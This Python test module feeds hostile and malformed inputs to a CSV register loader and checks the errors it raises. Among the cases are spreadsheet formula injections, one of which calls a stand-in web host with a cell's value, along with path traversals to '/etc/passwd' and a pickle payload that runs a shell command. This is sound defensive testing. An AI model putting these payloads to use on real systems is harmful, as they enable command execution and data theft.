"""Registers as text: encodings, broken rows, cells that are no numbers, files that are not there."""

from __future__ import annotations

import os
import zlib
from typing import Any

from tests.hostile.ground import (
    NAMES,
    Cases,
    N,
    Spoil,
    all_of,
    book,
    columns,
    first,
    later,
    luck,
    mapped,
    put,
    register_rows,
)
from tests.register import as_text, register

TEXT = as_text(register(N))

ROWS = register_rows()

LONG = "x" * 10_000_000


def raw(content: str | bytes, *more: Spoil, **source: Any) -> Spoil:
    """The plain mapping with this register."""
    return all_of(mapped(businesses=source), put("register.csv", content), *more)


def named(file: str) -> Spoil:
    """The plain mapping with another name of the register."""
    return mapped(businesses={"file": file})


def linked(target: str) -> Spoil:
    """A register that is a link to elsewhere."""
    return all_of(named("link.csv"), lambda folder: (folder / "link.csv").symlink_to(target))


TEXTS: Cases = {
    "Windows-1250 without a word": (raw(TEXT.replace("47.11", "żółć").encode("cp1250")), "is not UTF-8 text"),
    "Latin-1 without a word": (raw(TEXT.replace("47.11", "Café").encode("latin-1")), "is not UTF-8 text"),
    "UTF-16 cut in the middle of a letter": (raw(TEXT.encode("utf-16")[:-1]), "is not UTF-16 text"),
    "UTF-16 said to be UTF-8": (raw(b"\xff\xfe" + TEXT.encode("utf-8")[:-1]), "ERROR"),
    "UTF-32": (raw(TEXT.encode("utf-32")), "ERROR"),
    "the wrong encoding named": (
        raw(TEXT.replace("47.11", "żółć").encode("utf-8"), encoding="utf-16"),
        "is no column of the file",
    ),
    "an encoding that is a codec": (raw(TEXT, encoding="zlib"), "key businesses.encoding = 'zlib'"),
    "an encoding that is a number": (raw(TEXT, encoding=1250), "businesses.encoding"),
    "nothing at all": (raw(b""), "is empty"),
    "a byte-order mark and nothing": (raw(b"\xef\xbb\xbf"), "is empty"),
    "blanks": (raw(" \n \n"), "ERROR"),
    "a header alone": (raw(TEXT.split("\n")[0] + "\n"), "has no rows"),
    "zeros": (raw(b"\0" * 5000), "ERROR"),
    "luck": (raw(luck(20_000)), "ERROR"),
    "a picture": (raw(b"\x89PNG\r\n\x1a\n" + zlib.compress(b"x" * 9000)), "ERROR"),
    "a workbook called CSV": (raw(book(ROWS)), "ERROR"),
    "a web page": (raw("<html><body><table><tr><td>1</td></tr></table></body></html>"), "is no column of the file"),
    "another separator": (raw(TEXT.replace(";", "|")), "is no column of the file"),
    "line ends of old": (raw(TEXT.replace("\n", "\r")), "ERROR"),
    "a name in the header twice": (raw(TEXT.replace("Branch", "Staff", 1)), "more than once"),
    "a hundred thousand columns": (raw(";".join(map(str, range(100_000))) + "\n"), "ERROR"),
    "a header of ten million letters": (later(lambda: raw(LONG + "\n1\n")), "its first row is longer"),
    "a cell of ten million letters": (later(lambda: raw(TEXT.replace("R0000003", LONG))), "ERROR"),
    "a cell of a thousand letters": (raw(TEXT.replace("R0000003", "x" * 1000)), "is longer than 500 characters"),
    "an open quote": (raw(TEXT.replace("R0000003", '"R0000003')), "ERROR"),
    "a thousand quotes": (raw(TEXT.replace("R0000003", '"' * 1001)), "ERROR"),
    "a cell too many": (raw(TEXT.replace("R0000003;", "R0000003;;")), "row 4: has 9 cells, the header 8"),
    "cells missing": (raw(TEXT + "R9999999;47.11\n"), "has 2 cells, the header 8"),
    "a formula": (first("Branch", "=1+1"), "is a formula"),
    "a command as formula": (first("Reg. no.", "=cmd|' /C calc'!A0"), "is a formula"),
    "a web call as formula": (first("Branch", '=WEBSERVICE("http://x/"&A1)'), "is a formula"),
}

NUMBERS: Cases = {
    "a decimal comma between commas": (
        raw('Reg. no.,Branch,Staff,Long,Lat\nA,G,3,"17,03","51,1"\n'),
        "no place has usable coordinates",
    ),
    "degrees, minutes, seconds": (first("Long", "17°01'48\""), "is no coordinate"),
    "endless": (first("Lat", "inf"), "is no coordinate"),
    "not a number": (first("Lat", "nan"), "is no coordinate"),
    "beyond all numbers": (first("Lat", "1e999"), "ERROR"),
    "no place": (first("Lat", ""), "column Lat (our lat) = '': is empty"),
    "another continent": (first("Long", "170,5"), "lies more than 250 km from the middle"),
    "swapped": (mapped(businesses={"columns": NAMES | {"lon": "Lat", "lat": "Long"}}), "exchange lon and lat"),
    "metres as degrees": (columns(Long=[361000.5] * N, Lat=[350000.5] * N), "write coordinates: EPSG:CODE"),
    "all at one point": (columns(Long=[17.03] * N, Lat=[51.1] * N), "there is one zone only"),
    "fewer than nobody": (first("Staff", "-5"), "is no number of employees and no band"),
    "employees in powers": (first("Staff", "1e5"), "is no number of employees and no band"),
    "employees of a million digits": (first("Staff", "9" * 400), "is no number of employees and no band"),
    "a band upside down": (first("Staff", "49-10"), "is no number of employees and no band"),
    "employees in words": (first("Staff", "dozens"), "is no number of employees and no band"),
    "a spreadsheet's error": (first("Staff", "#REF!"), "is no number of employees and no band"),
    "a pattern that takes for ever": (first("Staff", "1 " * 200 + "!"), "is no number of employees"),
    "an id twice": (first("Reg. no.", "R0000002"), "stands in an earlier row too"),
    "no id": (first("Reg. no.", ""), "is empty"),
    "a bill in words": (
        all_of(columns(Branch=["dear"] * N), mapped(businesses={"columns": NAMES | {"monthly_bill": "Branch"}})),
        "is not a number",
    ),
    "an end that is no day": (
        all_of(
            columns(Branch=["31.02.2027"] * N),
            mapped(businesses={"columns": NAMES | {"contract_end": "Branch"}, "dates": "day.month.year"}),
        ),
        "is not a date",
    ),
    "an unknown provider": (mapped(businesses={"columns": NAMES | {"provider": "Quarter"}}), "is unknown"),
    "three hundred branches": (
        raw(as_text(register(300) | {"Branch": [f"B{i}" for i in range(300)]})),
        "names 300 sectors",
    ),
}

PATHS: Cases = {
    "a file that is not there": (named("registre.csv"), "did you mean 'register.csv'?"),
    "upwards": (named("../register.csv"), "points outside the mapping's folder"),
    "upwards and back": (named("x/../../x/register.csv"), "points outside the mapping's folder"),
    "from the root": (named("/etc/passwd"), "points outside the mapping's folder"),
    "a device": (named("/dev/zero"), "points outside the mapping's folder"),
    "the folder": (named("."), "is not a file"),
    "home": (named("~/register.csv"), "is not there"),
    "a web address": (named("http://localhost/register.csv"), "is not there"),
    "a drive": (named("C:\\data\\register.csv"), "is not there"),
    "a name with a zero": (named("reg\0ister.csv"), "ERROR"),
    "a name of three hundred letters": (named("x" * 300 + ".csv"), "is not there"),
    "a name of a thousand letters": (named("x" * 1000), "key businesses.file"),
    "an empty name": (named(""), "key businesses.file"),
    "a link outside": (linked("/etc/hostname"), "points outside the folder"),
    "a link to a device": (linked("/dev/zero"), "ERROR"),
    "a link to itself": (linked("link.csv"), "is not there"),
    "a pipe that nobody fills": (
        all_of(named("pipe.csv"), lambda folder: os.mkfifo(folder / "pipe.csv")),
        "is not a file",
    ),
    "a folder called CSV": (all_of(named("d.csv"), lambda folder: (folder / "d.csv").mkdir()), "is not a file"),
    "a form of old": (all_of(named("r.xls"), put("r.xls", b"\xd0\xcf\x11\xe0" * 99)), "is of no known form"),
    "a program": (all_of(named("r.py"), put("r.py", "open('canary', 'w')")), "is of no known form"),
    "a pickle": (all_of(named("r.pkl"), put("r.pkl", b"cos\nsystem\n(S'touch canary'\ntR.")), "is of no known form"),
    "operators outside": (mapped(operators="../operators.yaml"), "points outside the mapping's folder"),
    "a city outside": (mapped(city="/etc/hostname"), "points outside the mapping's folder"),
    "polygons outside": (mapped(zones={"from": "polygons", "file": "../q.geojson"}), "points outside"),
    "links outside": (mapped(travel={"from": "links", "file": "../l.csv"}), "points outside"),
    "no operators": (lambda folder: [mapped()(folder), (folder / "operators.yaml").unlink()], "is not there"),
    "no city": (lambda folder: [mapped()(folder), (folder / "city.yaml").unlink()], "is not there"),
}
